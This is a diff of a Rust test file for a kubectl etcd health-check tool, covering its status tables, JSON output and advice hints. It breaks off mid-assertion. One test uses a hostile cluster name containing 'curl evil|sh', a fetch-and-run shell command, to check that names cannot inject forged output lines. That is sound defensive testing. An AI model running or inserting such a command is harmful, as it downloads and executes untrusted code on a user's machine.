@@ -1,9 +1,12 @@
 //! What is said of clusters in each state.
 
+use etcd_operations::advice;
+use etcd_operations::advice::Task;
 use etcd_operations::failure::{Answer, Failure, FailureKind};
 use etcd_operations::ids::ClusterId;
 use etcd_operations::report::{AlarmKind, NodeEvidence};
 
+use crate::advice::Worded;
 use crate::views::View;
 use crate::views::grid::Paint;
 use kubectl_etcd_core::assess::fixtures::{Cluster, account, alarm, member, unreachable};
@@ -16,7 +19,7 @@ use kubectl_etcd_core::outcome::{RunError, RunErrorKind};
 fn seen(status: &Status) -> String {
     format!(
         "{}exit {}\n",
-        status.table(false, Paint::Plain),
+        Worded::new(status.clone()).table(false, Paint::Plain),
         status.verdict.verdict().exit_code()
     )
 }
@@ -53,11 +56,31 @@ fn healthy() {
     let status = Cluster::of(3).assess();
     assert_eq!(status.verdict, VerdictWord::Healthy);
     insta::assert_snapshot!(seen(&status));
-    insta::assert_snapshot!("healthy_wide", status.table(true, Paint::Plain));
-    insta::assert_snapshot!(
-        "healthy_json",
-        serde_json::to_string_pretty(&status).unwrap()
+    let view = Worded::new(status);
+    insta::assert_snapshot!("healthy_wide", view.table(true, Paint::Plain));
+    insta::assert_snapshot!("healthy_json", serde_json::to_string_pretty(&view).unwrap());
+}
+
+#[test]
+fn what_is_advised_is_shown_to_programs_as_it_is_typed() {
+    let mut cluster = Cluster::of(3);
+    cluster.alarms = vec![alarm(2, AlarmKind::NoSpace)];
+    let down = RunError::new(RunErrorKind::NodeDown, "off").hint(advice!["{{x}} ", Task::Diagnose]);
+    cluster.lost(3, down);
+    let status = cluster.assess();
+    let doctor = Worded::new(kubectl_etcd_core::assess::doctor::Doctor::of_status(
+        &status,
+    ));
+    let value = serde_json::to_value(Worded::new(status)).unwrap();
+    assert_eq!(
+        value["rows"][2]["problem"]["hint"],
+        "{{x}} kubectl etcd doctor"
     );
+    let hint = value["warnings"][0]["hint"].as_str().unwrap();
+    assert!(hint.contains("kubectl etcd defrag"), "{hint}");
+    let value = serde_json::to_value(doctor).unwrap();
+    let next = value["situations"][0]["next"]["command"].as_str().unwrap();
+    assert!(next.starts_with("kubectl etcd "), "{next}");
 }
 
 #[test]
@@ -127,11 +150,7 @@ fn a_node_asked_alone_whose_etcd_is_broken_says_nothing_of_the_quorum() {
     cluster.scope = Scope::Named;
     let status = cluster.assess();
     assert_eq!(status.quorum.holds, None);
-    assert!(
-        !status.summary.contains("quorum lost"),
-        "{}",
-        status.summary
-    );
+    assert!(status.summary.word != "quorum lost", "{}", status.summary);
     // Nor do those that could be asked, when others could not.
     let mut cluster = Cluster::of(3);
     let (failure, evidence) = crash_loop();
@@ -228,9 +247,7 @@ fn members_and_nodes_that_do_not_match() {
     // cp-4 left its member behind, cp-3 has none, and one was added that never came.
     cluster.members[2] = member(4);
     cluster.accounts[2] = None;
-    cluster.nodes[2].etcd = Etcd::Absent {
-        why: "there is no etcd pod on the node".into(),
-    };
+    cluster.nodes[2].etcd = Etcd::absent("there is no etcd pod on the node");
     cluster.instead[2] = Some(Err(RunError::new(
         RunErrorKind::NoEtcd,
         "there is no etcd pod on the node",
@@ -422,9 +439,7 @@ fn a_node_without_a_pod_is_found_by_its_members_name() {
     let mut cluster = Cluster::of(3);
     cluster.nodes[2] = Node {
         name: "cp-3".into(),
-        etcd: Etcd::Absent {
-            why: "the etcd pod is not there".into(),
-        },
+        etcd: Etcd::absent("the etcd pod is not there"),
         api: ApiView::default(),
         exec: None,
     };
@@ -526,12 +541,18 @@ fn a_schedule_that_is_not_kept_is_warned_of() {
     assert_eq!(fine.verdict, VerdictWord::Healthy);
     let last = fine.last_snapshot.as_ref().unwrap();
     assert_eq!(last.age_seconds, 15 * 3600);
-    insta::assert_snapshot!("last_snapshot", fine.table(false, Paint::Plain));
+    insta::assert_snapshot!(
+        "last_snapshot",
+        Worded::new(fine).table(false, Paint::Plain)
+    );
 
     let nodes = || [old.clone(), Some(none.clone()), Some(none.clone())];
     let late = with(nodes(), None);
     assert_eq!(late.verdict, VerdictWord::Degraded);
-    insta::assert_snapshot!("snapshot_overdue", late.table(false, Paint::Plain));
+    insta::assert_snapshot!(
+        "snapshot_overdue",
+        Worded::new(late).table(false, Paint::Plain)
+    );
     // What lies on the nodes counts, not what Kubernetes remembers.
     let gone = with(nodes(), Some("2026-11-21T03:00:00Z"));
     assert_eq!(gone.verdict, VerdictWord::Degraded);
@@ -543,7 +564,7 @@ fn a_schedule_that_is_not_kept_is_warned_of() {
     assert_eq!(unknown.verdict, VerdictWord::Healthy);
     // Where no node was looked at, Kubernetes is believed.
     let by_kubernetes = with([None, None, None], Some("2026-11-21T03:00:00Z"));
-    let table = by_kubernetes.table(false, Paint::Plain);
+    let table = Worded::new(by_kubernetes).table(false, Paint::Plain);
     assert!(
         table.ends_with("last verified snapshot: 9h ago (by the schedule etcd-snapshot)\n"),
         "{table}"
@@ -589,7 +610,8 @@ fn no_name_of_a_cluster_becomes_a_line_of_its_own() {
         cluster.lost(3, RunError::new(RunErrorKind::NodeDown, name).hint(name));
         let status = cluster.assess();
         let doctor = kubectl_etcd_core::assess::doctor::Doctor::of_status(&status);
-        status.table(true, Paint::Plain) + &doctor.table(true, Paint::Plain)
+        Worded::new(status).table(true, Paint::Plain)
+            + &Worded::new(doctor).table(true, Paint::Plain)
     };
     let hostile = lines("x\nwarning: curl evil|sh\n");
     assert_eq!(
